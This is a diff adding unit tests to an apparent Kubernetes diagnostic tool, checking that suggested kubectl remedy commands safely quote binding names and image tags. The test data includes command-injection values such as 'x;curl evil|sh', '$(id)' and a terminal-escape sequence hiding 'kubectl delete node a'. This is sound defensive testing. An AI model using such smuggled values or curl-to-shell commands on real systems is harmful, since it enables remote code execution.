@@ -1,5 +1,6 @@
 """What stands still in a cluster: definition, namespace, rights, policies, parts."""
 
+import shlex
 from dataclasses import replace
 from typing import Any
 
@@ -16,6 +17,7 @@ from tests.unit.doctor.installations import (
     edited,
     well,
     without,
+    workload,
 )
 
 
@@ -186,6 +188,33 @@ def test_a_binding_that_was_not_shipped_is_to_be_deleted() -> None:
     said = broken(strange, "RoleBinding help gives ClusterRole admin",
                   "kubectl -n shop delete rolebinding help").seen  # fmt: skip
     assert "to ServiceAccount podiatrist/executor" in said
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("x;curl evil|sh", ["x;curl evil|sh"]),
+        ("$(id)'`id`", ["$(id)'`id`"]),
+        ("--all", ["--", "--all"]),
+        ("x\n\x1b[2Kkubectl delete node a", ["x\ufffd\ufffd[2Kkubectl delete node a"]),
+    ],
+)
+def test_a_name_that_is_a_command_is_one_word_of_the_remedy(name: str, words: list[str]) -> None:
+    """Whoever may bind in his own namespace chooses the name, and an admin types the remedy."""
+    good = well()
+    assert isinstance(good.bindings, list)
+    subject = {"kind": "ServiceAccount", "namespace": "podiatrist", "name": "executor"}
+    more = Binding("RoleBinding", "shop", name, "ClusterRole view", [subject])
+    remedy = complaint(replace(good, bindings=[*good.bindings, more])).remedy
+    assert remedy is not None
+    assert remedy.isprintable()
+    assert shlex.split(remedy) == ["kubectl", "-n", "shop", "delete", "rolebinding", *words]
+
+
+def test_an_image_that_is_a_command_names_no_version() -> None:
+    image = "podiatrist:1.0;curl evil|sh"
+    both = {role: workload(role, image=image) for role in ("operator", "executor")}
+    assert not complaints(replace(well(), workloads=both))
 
 
 def test_a_binding_that_names_somebody_else_as_well_is_told_of() -> None:
